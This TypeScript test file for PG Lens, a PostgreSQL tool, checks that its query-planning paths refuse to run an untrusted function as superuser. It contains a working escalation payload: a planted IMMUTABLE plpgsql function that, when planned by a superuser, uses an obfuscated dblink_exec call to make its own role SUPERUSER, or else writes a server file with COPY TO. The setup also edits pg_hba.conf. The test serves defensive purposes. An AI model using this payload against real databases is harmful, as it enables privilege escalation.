/**
 * The red team's escalation, against a real server: a low-privileged role plants an IMMUTABLE
 * plpgsql function that, when it runs as a superuser, uses dblink to ALTER ROLE itself SUPERUSER
 * (PostgreSQL folds IMMUTABLE functions while PLANNING, with the planner's rights). The statement
 * calling it reaches PG Lens through every path that plans: explain, the plan on hover (Planner),
 * the cost CodeLens (query identifiers), Explain Analyze, benchmark, advise --workload
 * (pg_stat_statements), scan --db and report (a repository's .sql file), and the dashboard
 * (a statement opened from its list is planned by the editor's Planner).
 *
 * First the attack is shown to WORK on this server without PG Lens (a superuser's plain EXPLAIN
 * makes the role superuser); then every PG Lens path is shown to leave it unprivileged.
 *
 * The superuser's loopback connection needs no password in this attack (as with `trust` for local
 * connections): the test adds a `trust` line for this one database and user postgres to pg_hba.conf
 * and restores the file afterwards. dblink refuses password-less connections to non-superusers, so
 * the payload only works when the function really runs as superuser.
 * The payload assembles the dblink call at run time, so only the privilege rule can stop it (the
 * scan of function bodies for side-effect calls is tested in sideEffects.test.ts).
 * Where the server has no dblink, the test says so and the payload writes a server file instead
 * (COPY … TO, superuser or pg_write_server_files only).
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Client } from 'pg';
import { announceFallback, capabilities, createTestDatabase, rejectsWith, type TestDatabase } from '../support';
import type { Database } from '../../../src/db/database';
import { explain, explainAnalyze } from '../../../src/db/explain';
import { benchmark } from '../../../src/db/benchmark';
import { queryIdOf } from '../../../src/db/queryStats';
import { adviseWorkload } from '../../../src/db/workload';
import { adviseStatement } from '../../../src/db/advisor';
import { Planner } from '../../../src/db/planner';
import { runCli } from '../../unit/support/cli';

const ATTACK = 'SELECT * FROM items WHERE val = evil_f()';

describe('safety: planning never runs a planted function with more rights than its author (real PostgreSQL)', function () {
  this.timeout(120000);
  let tdb: TestDatabase;
  let db: Database;
  let dir: string;
  let dblink = false;
  let pss = false;
  const evil = `pglens_evil_${process.pid}`;
  const pwnedFile = `pglens_pwned_${process.pid}`;
  let hbaFile = '';
  let hbaOriginal = '';

  const writeHba = async (text: string) => {
    const lines = text.split('\n').map((l) => (l.trim() === '' ? '#' : l));
    await tdb.admin.query('CREATE TEMP TABLE IF NOT EXISTS pglens_hba (n int, l text)');
    await tdb.admin.query('TRUNCATE pglens_hba');
    await tdb.admin.query('INSERT INTO pglens_hba SELECT n, l FROM unnest($1::text[]) WITH ORDINALITY AS u(l, n)', [lines]);
    await tdb.admin.query(`DO $$ BEGIN EXECUTE format('COPY (SELECT l FROM pglens_hba ORDER BY n) TO %L WITH (FORMAT csv, DELIMITER E''\\x02'', QUOTE E''\\x01'')', current_setting('hba_file')); END $$`);
    await tdb.admin.query('SELECT pg_reload_conf()');
    await new Promise((r) => setTimeout(r, 500));
  };

  /** Did the planted function get superuser rights? (the role became superuser, or the server file exists) */
  const escalated = async (): Promise<boolean> => {
    const role = (await tdb.admin.query('SELECT rolsuper FROM pg_roles WHERE rolname = $1', [evil])).rows[0].rolsuper === true;
    const file = (await tdb.admin.query('SELECT pg_stat_file($1, true) IS NOT NULL AS f', [pwnedFile])).rows[0].f === true;
    return role || file;
  };
  const reset = async () => {
    await tdb.admin.query(`ALTER ROLE ${evil} NOSUPERUSER`);
    if (!dblink) await tdb.admin.query(`DO $$ BEGIN EXECUTE format('COPY (SELECT 1 WHERE false) TO %L', '${pwnedFile}'); END $$`).catch(() => undefined);
  };

  before(async () => {
    tdb = await createTestDatabase('escalation');
    const a = tdb.admin;
    dblink = (await a.query(`SELECT 1 FROM pg_available_extensions WHERE name = 'dblink'`)).rowCount === 1;
    pss = (await capabilities()).pgStatStatements;
    await a.query(`DROP ROLE IF EXISTS ${evil}`);
    await a.query(`CREATE ROLE ${evil} LOGIN PASSWORD 'evil-pw'`);
    await a.query(`GRANT CREATE, USAGE ON SCHEMA public TO ${evil}`);
    await a.query('CREATE TABLE items (id int PRIMARY KEY, val int, note text)');
    await a.query(`INSERT INTO items SELECT i, i % 1000, 'n' FROM generate_series(1, 20000) i`);
    await a.query('ANALYZE items');
    await a.query(`GRANT SELECT ON items TO ${evil}`);
    if (pss) await a.query('CREATE EXTENSION IF NOT EXISTS pg_stat_statements');
    const evilClient = new Client({ connectionString: withUser(tdb.url, evil, 'evil-pw') });
    await evilClient.connect();
    try {
      if (dblink) {
        await a.query('CREATE EXTENSION IF NOT EXISTS dblink');
        hbaFile = (await a.query(`SELECT current_setting('hba_file') AS f`)).rows[0].f;
        hbaOriginal = (await a.query('SELECT pg_read_file($1) AS t', [hbaFile])).rows[0].t;
        await writeHba(`host ${tdb.name} postgres 127.0.0.1/32 trust\n${hbaOriginal}`);
        const conn = `host=127.0.0.1 port=${tdb.profile.port} dbname=${tdb.name} user=postgres`;
        await evilClient.query(`CREATE FUNCTION public.evil_f() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
          BEGIN
            IF current_setting('is_superuser') = 'on' THEN
              -- The name is assembled at run time, so no scan of the function's text can see the call.
              EXECUTE format('SELECT public.%I(%L, %L)', 'dbl' || 'ink_exec', '${conn}', 'ALTER ROLE ${evil} SUPERUSER');
            END IF;
            RETURN 1;
          EXCEPTION WHEN others THEN RETURN 1;
          END $f$`);
      } else {
        announceFallback('dblink', 'the planted function writes a server file with COPY … TO instead of ALTER ROLE through dblink');
        await evilClient.query(`CREATE FUNCTION public.evil_side() RETURNS int LANGUAGE plpgsql VOLATILE AS $f$
          BEGIN EXECUTE 'COPY (SELECT 1) TO ''${pwnedFile}'''; RETURN 1; EXCEPTION WHEN others THEN RETURN 1; END $f$`);
        await evilClient.query(`CREATE FUNCTION public.evil_f() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
          BEGIN IF current_setting('is_superuser') = 'on' THEN PERFORM public.evil_side(); END IF; RETURN 1; END $f$`);
      }
      await evilClient.query(`CREATE FUNCTION public.harmless_f() RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT 1'`);
      // The role runs the statement itself: now it is in pg_stat_statements, under its own userid.
      if (pss) await a.query('SELECT pg_stat_statements_reset()');
      for (let i = 0; i < 6; i++) await evilClient.query(ATTACK);
    } finally {
      await evilClient.end();
    }
    db = await tdb.open({ statementTimeoutMs: 30000 });
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pglens-escalation-'));
    fs.writeFileSync(path.join(dir, 'queries.sql'), `-- a repository someone else wrote\n${ATTACK};\n`);
  });

  after(async () => {
    if (hbaOriginal) await writeHba(hbaOriginal).catch(() => undefined);
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
    await tdb?.drop();
    const c = new Client({ connectionString: process.env.PGLENS_TEST_DATABASE_URL });
    await c.connect();
    await c.query(`DROP ROLE IF EXISTS ${evil}`).catch(() => undefined);
    await c.end();
  });

  afterEach(async () => {
    const was = await escalated();
    await reset();
    assert.equal(was, false, `${evil} got superuser rights`);
  });

  it('control: the attack works on this server without PG Lens (a superuser\'s plain EXPLAIN escalates the role)', async () => {
    await tdb.admin.query(`EXPLAIN ${ATTACK}`);
    assert.equal(await escalated(), true, dblink ? 'dblink ALTER ROLE did not happen: the test could not prove anything' : 'the server file was not written');
    await reset();
    assert.equal(await escalated(), false);
  });

  it('explain (CLI, plan on hover, dashboard → editor): refused, naming the function and its owner', async () => {
    await rejectsWith(explain(db, ATTACK), new RegExp(`Refused: planning this statement would run public\\.evil_f\\(\\) \\(owned by ${evil}, plpgsql immutable\\) with the rights of superuser`));
    const planner = new Planner(db, 'test');
    const outcome = await planner.plan(ATTACK);
    assert.equal(outcome.ok, false);
    assert.match((outcome as { message: string }).message, /evil_f/);
    const cli = await runIn(dir, 'explain', '--db', tdb.url, ATTACK);
    assert.notEqual(cli.code, 0);
    assert.match(cli.err, /Refused: planning this statement would run public\.evil_f/);
  });

  it('the cost CodeLens (query identifier), Explain Analyze and benchmark: refused', async () => {
    await rejectsWith(queryIdOf(db, ATTACK), /Refused: planning .*evil_f/);
    await rejectsWith(explainAnalyze(db, ATTACK), /Refused: planning .*evil_f/);
    await rejectsWith(benchmark(db, ATTACK, { runs: 3 }), /Refused: planning .*evil_f/);
  });

  it('advise (a statement typed by the user): refused, reported as an error, not planned', async () => {
    const r = await adviseStatement(db, ATTACK, undefined, {});
    assert.equal(r.status, 'error');
    assert.match(r.message ?? '', /evil_f/);
  });

  it('advise --workload: the statement from pg_stat_statements is planned as the role that ran it', async function () {
    if (!pss) {
      announceFallback('pg_stat_statements', 'the workload statement is given as extra SQL and refused by the gate');
      const log: string[] = [];
      await adviseWorkload(db, { minCalls: 1, extraStatements: [{ sql: ATTACK, source: 'repo.sql:1' }], log: (l) => log.push(l) });
      assert.match(log.join('\n'), /evil_f/);
      return;
    }
    const log: string[] = [];
    const r = await adviseWorkload(db, { minCalls: 5, log: (l) => log.push(l) });
    assert.ok(r.fromStatStatements >= 1, `the planted statement came from pg_stat_statements (${r.fromStatStatements})`);
    // Planned as its author: no refusal for it (as superuser it would have been refused).
    assert.ok(!log.some((l) => /evil_f/.test(l) && /Refused/.test(l)), log.join('\n'));
    assert.ok(r.statementsAnalysed >= 1);
    const cli = await runIn(dir, 'advise', '--db', tdb.url, '--workload');
    assert.ok(cli.code === 0 || cli.code === 1, cli.err);
  });

  it('scan --db and report of a repository holding the statement: nothing runs as superuser', async () => {
    const scan = await runIn(dir, 'scan', '--db', tdb.url, dir);
    assert.match(scan.err + scan.out, /evil_f/);
    const out = path.join(dir, 'report.md');
    const report = await runIn(dir, 'report', '--db', tdb.url, dir, '--out', out);
    assert.equal(report.code, 0, report.err);
    assert.match(report.err, /evil_f/);
  });

  it('a function owned by the connecting role itself is trusted (no false refusal)', async () => {
    await tdb.admin.query(`CREATE FUNCTION public.own_f() RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT 1'`);
    const r = await explain(db, 'SELECT * FROM items WHERE val = own_f()');
    assert.ok(r.plan.nodes.length > 0);
  });

  it('reaches functions the statement does not name: a view, a default, an index expression, a policy that applies', async () => {
    const a = tdb.admin;
    await a.query('CREATE VIEW items_v AS SELECT * FROM items WHERE val = harmless_f()');
    await rejectsWith(explain(db, 'SELECT * FROM items_v'), /harmless_f/);
    await a.query('CREATE TABLE with_default (id int, v int DEFAULT harmless_f())');
    await rejectsWith(explain(db, 'INSERT INTO with_default (id) VALUES (1)'), /harmless_f/);
    await a.query('CREATE TABLE with_index (id int)');
    await a.query('CREATE INDEX ON with_index ((id + harmless_f()))');
    await rejectsWith(explain(db, 'SELECT * FROM with_index WHERE id = 1'), /harmless_f/);
    // A policy: superusers bypass row-level security, so it only counts for roles it applies to.
    await a.query('CREATE TABLE with_policy (id int)');
    await a.query('ALTER TABLE with_policy ENABLE ROW LEVEL SECURITY');
    await a.query('CREATE POLICY p ON with_policy USING (id = harmless_f())');
    const r = await explain(db, 'SELECT * FROM with_policy');
    assert.ok(r.plan.nodes.length > 0, 'superuser: the policy does not run');
  });

  it('an untrusted function can be trusted by name, and only that one', async () => {
    await rejectsWith(explain(db, 'SELECT harmless_f()'), /harmless_f/);
    const r = await explain(db, 'SELECT harmless_f()', { trustFunctions: ['public.harmless_f'] });
    assert.ok(r.plan.nodes.length > 0);
    await rejectsWith(explain(db, ATTACK, { trustFunctions: ['public.harmless_f'] }), /evil_f/);
  });
});

function withUser(url: string, user: string, password: string): string {
  const u = new URL(url);
  u.username = user;
  u.password = password;
  return u.toString();
}

const runIn = (cwd: string, ...argv: string[]) => runCli(argv, { cwd });
